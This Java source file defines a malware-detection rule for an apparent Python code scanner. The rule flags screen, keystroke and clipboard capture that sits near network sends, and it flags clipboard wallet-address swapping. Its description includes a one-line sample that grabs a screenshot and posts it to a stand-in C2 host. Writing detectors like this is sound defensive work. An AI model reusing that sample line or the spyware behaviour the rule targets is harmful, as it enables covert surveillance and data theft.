package dev.kingsnake.rules.exfil;

import dev.kingsnake.Confidence;
import dev.kingsnake.Severity;
import dev.kingsnake.spi.FindingSink;
import dev.kingsnake.spi.PythonFile;
import dev.kingsnake.spi.PythonFileRule;
import dev.kingsnake.spi.RuleContext;
import dev.kingsnake.spi.RuleInfo;
import dev.kingsnake.spi.Tags;
import dev.kingsnake.spi.facts.CallFacts;
import dev.kingsnake.spi.facts.Capability;
import dev.kingsnake.spi.python.Expr;

import java.util.Optional;
import java.util.Set;
import java.util.regex.Pattern;

/** Clipboard, screen and keyboard capture next to code that sends data; clipboard wallet-address swapping. */
public final class SpywareRule implements PythonFileRule {

    private static final RuleInfo INFO = new RuleInfo("KS-EXFIL-SPY",
            "Captures the clipboard, the screen or keystrokes where data is sent out, or swaps wallet addresses "
                    + "in the clipboard",
            Severity.HIGH, Confidence.MEDIUM, Set.of(Tags.FINGERPRINT, Tags.CREDENTIALS),
            "img = ImageGrab.grab(); requests.post('https://c2.example.invalid', files={'f': img_bytes})",
            "Automation, screenshot and clipboard utilities use the same APIs; a capture call is only reported when "
                    + "the same function (high) or file (medium) sends data out, keyboard hooks always at low weight, "
                    + "and clipboard writes only when the file also reads the clipboard and holds a wallet-address regex;"
                    + " writing a hard-coded wallet address into the clipboard in the function that reads it is CRITICAL (a"
                    + " clipper; a wallet's copy-address button does not read the clipboard first).");

    /** Regex sources or literals shaped like cryptocurrency addresses (BTC, ETH, XMR, LTC, TRX ...). */
    private static final Pattern WALLET_SHAPE = Pattern.compile(
            "\\[13\\]|\\bbc1|0x\\[(a-fA-F0-9|0-9a-fA-F|a-f0-9|0-9a-f)\\]|\\[48\\]|\\[LM3\\]|^0x[0-9a-fA-F]{40}$"
                    + "|^(bc1[02-9ac-hj-np-z]{25,62}|[13][1-9A-HJ-NP-Za-km-z]{25,34})$");

    @Override
    public RuleInfo info() {
        return INFO;
    }

    @Override
    public void check(PythonFile file, RuleContext ctx, FindingSink sink) {
        CallFacts facts = CallFacts.of(file);
        Set<Capability> fc = facts.fileCaps();
        if (!fc.contains(Capability.CLIPBOARD_READ) && !fc.contains(Capability.CLIPBOARD_WRITE)
                && !fc.contains(Capability.SCREENSHOT) && !fc.contains(Capability.KEYLOG)) {
            return;
        }
        boolean walletShapes = fc.contains(Capability.CLIPBOARD_READ) && fc.contains(Capability.CLIPBOARD_WRITE)
                && facts.strings().stream().anyMatch(s -> WALLET_SHAPE.matcher(s.text()).find());
        for (CallFacts.CallFact c : facts.calls()) {
            String what = c.is(Capability.SCREENSHOT) ? "takes screenshots"
                    : c.is(Capability.KEYLOG) ? "hooks the keyboard"
                    : c.is(Capability.CLIPBOARD_READ) ? "reads the clipboard"
                    : c.is(Capability.CLIPBOARD_WRITE) ? "replaces the clipboard" : null;
            if (what == null) {
                continue;
            }
            Expr.Call at = c.call();
            if (c.is(Capability.CLIPBOARD_WRITE)) {
                Optional<String> planted = c.call().arg(0).flatMap(a -> WalletAddresses.constant(file, a));
                if (planted.isPresent() && facts.scopeHas(c.scope(), Capability.CLIPBOARD_READ)) {
                    sink.report(file, at, "puts the hard-coded wallet address " + planted.get()
                            + " into the clipboard it has just read (a clipper)", Severity.CRITICAL, Confidence.HIGH);
                } else if (walletShapes) {
                    sink.report(file, at, "replaces clipboard contents that match cryptocurrency-address shapes",
                            Severity.HIGH, Confidence.HIGH);
                }
            } else if (facts.scopeHas(c.scope(), Capability.SEND)) {
                sink.report(file, at, what + " where data is sent out");
            } else if (fc.contains(Capability.SEND)) {
                sink.report(file, at, what + " in a file that sends data", Severity.MEDIUM, Confidence.MEDIUM);
            } else if (c.is(Capability.KEYLOG)) {
                sink.report(file, at, what, Severity.LOW, Confidence.MEDIUM);
            }
        }
    }
}
